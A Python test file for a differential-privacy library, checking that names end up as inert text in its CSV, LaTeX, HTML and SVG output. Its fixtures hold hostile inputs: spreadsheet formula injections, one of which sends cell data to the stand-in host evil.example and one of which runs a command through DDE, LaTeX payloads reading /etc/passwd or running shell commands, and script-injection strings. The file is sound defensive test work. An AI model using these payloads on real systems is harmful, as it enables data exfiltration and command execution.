"""Names of columns, groups and labels are text wherever they go: no formula, command or script."""

from __future__ import annotations

import csv
import io
import re
import warnings
from html import escape
from pathlib import Path
from typing import Any

import numpy as np
import pytest

import mustdp as md
from mustdp.cli.main import main
from mustdp.numerics.formatting import csv_table, latex_text, one_line, spreadsheet_text

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\x00=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "-",
    "=",
)
HOSTILE = (
    *FORMULAS,
    r"\input{/etc/passwd}",
    r"\write18{id} % & # _ ^ ~ $x$",
    "<script>alert(1)</script>",
    "--><script>alert(1)</script>",
    '" onload="alert(1)',
    r"$\frac{$",
    "$x$ and $y$",
    "a\nb\r\nc",
    "\x1b]0;title\x07",
)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def is_formula(cell: str) -> bool:
    """Whether some spreadsheet would evaluate it; numbers are none."""
    if re.fullmatch(r"[+-]?\d+(\.\d*)?(e[+-]?\d+)?", cell):
        return False
    bare = cell.lstrip("\t\r\n \x00\ufeff")
    return bare[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20") or cell[:1] in ("\t", "\r", "\n")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert is_formula(text)
    [[found]] = cells(csv_table([[text]]))
    assert found == f"'{one_line(text)}"


@pytest.mark.parametrize("text", ["-5", "+5", "-1e-3", "mean", "a=b", "'=x", "", "5-3"])
def test_other_texts_stay(text: str) -> None:
    assert spreadsheet_text(text) == text


@pytest.mark.filterwarnings("ignore:Glyph:UserWarning")  # of a font, and not of a name
@pytest.mark.parametrize("name", HOSTILE)
def test_a_release_with_hostile_names(name: str) -> None:
    pandas = pytest.importorskip("pandas")
    pytest.importorskip("matplotlib")
    from mustdp.reporting.release_page import release_page

    rng = np.random.default_rng(0)
    frame = pandas.DataFrame({name: rng.uniform(0, 1, 60), "kind": [name, "b"] * 30})
    found = md.private_release(
        frame, ["mean", "histogram:2"], columns=[name], lower=0, upper=1, by="kind",
        groups=[name, "b"], noise_multiplier=1.0, delta=1e-3,
    )  # fmt: skip
    table = cells(found.as_csv())
    assert not [cell for row in table[1:] for cell in row if is_formula(cell)]
    assert len(table) == 1 + len(found.estimates)
    assert {len(row) for row in table} == {9}
    lines = found.as_latex().splitlines()
    flags = {flag for one in found.estimates for flag in one.flags}
    assert len(lines) == 4 + len(found.estimates) + (1 + len(flags) if flags else 0)
    for line in lines[3 : 3 + len(found.estimates)]:
        assert harmless_row(line)
    page = release_page(found).html()
    for part in re.findall(r"<script|onload=\"|<!--", page):
        raise AssertionError(part)
    if "<" in name:
        assert escape(name) in page


def harmless_row(line: str) -> bool:
    """A row of four cells in which LaTeX runs nothing but signs that stand for themselves."""
    body = line.removesuffix(r"\\")
    bare = re.sub(
        r"\\(textbackslash|textasciitilde|textasciicircum)\{\}|\\[&%$#_{}]|\$[<>]\$", "", body
    )
    return not re.search(r"[\\%#_^~$]", bare) and bare.count("&") == 3


@pytest.mark.parametrize("text", HOSTILE)
def test_latex_runs_nothing_in_a_text(text: str) -> None:
    assert harmless_row(rf"{latex_text(text)} & & & \\")
    assert "\n" not in latex_text(text)


@pytest.mark.filterwarnings("ignore:Glyph:UserWarning")  # of a font, and not of a name
@pytest.mark.parametrize("name", HOSTILE)
def test_pictures_draw_names_as_they_stand(name: str) -> None:
    pandas = pytest.importorskip("pandas")
    pytest.importorskip("matplotlib")
    rng = np.random.default_rng(0)
    frame = pandas.DataFrame({name: rng.uniform(0, 1, 60)})
    statistic = md.types.UserStatistic(
        lambda values, counts: 0.5, 1.0, labels=(name,), average=True
    )
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", md.types.InferenceNote)
        found = md.private_bootstrap(
            frame, statistic, lower=0, upper=1, design=md.wor(60, 20), replicates=8,
            noise_multiplier=1.0, delta=1e-3,
        )  # fmt: skip
    picture: Any = found.plot().figure
    svg = io.StringIO()
    picture.savefig(svg, format="svg")
    assert "<script" not in svg.getvalue()


def test_the_ledger_is_guarded_in_the_same_way(tmp_path: Path) -> None:
    with md.Ledger.open(tmp_path / "ledger.db", epsilon=50, delta=1e-3, data="people") as ledger:
        labels = [name for name in FORMULAS if name.isprintable()]
        for label in labels:
            ledger.charge(md.gaussian(noise_multiplier=100.0), label=label)
        table = cells(ledger.export_csv())
    assert [row[2] for row in table[1:]] == [f"'{label}" for label in labels]


def test_every_csv_of_the_package_is_written_in_one_place() -> None:
    """Where a table was written without the shared function, nothing would guard it."""
    sources = Path(md.__file__).parent
    writing = re.compile(r"csv\.(Dict)?[wW]riter|\.to_csv\(|np\.savetxt|tabular\}")
    found = {
        str(path.relative_to(sources))
        for path in sources.rglob("*.py")
        if writing.search(path.read_text(encoding="utf-8"))
    }
    assert found == {
        "numerics/formatting.py",
        "estimation/result.py",
    }
    for name in found - {"numerics/formatting.py"}:
        text = (sources / name).read_text(encoding="utf-8")
        assert "csv_table(" in text
        assert "latex_text" in text


def test_the_command_line_writes_no_formula(tmp_path: Path) -> None:
    name, out = FORMULAS[0], tmp_path / "out.csv"
    data = tmp_path / "people.csv"
    with data.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows([[name], *([k / 50] for k in range(50))])
    status = main(
        ["release", str(data), "--column", name, "--lower", "0", "--upper", "1", "--epsilon", "1",
         "--delta", "1e-3", "--csv", str(out)]
    )  # fmt: skip
    assert status == 0
    table = cells(out.read_text(encoding="utf-8"))
    assert table[1][1] == f"'{name}"
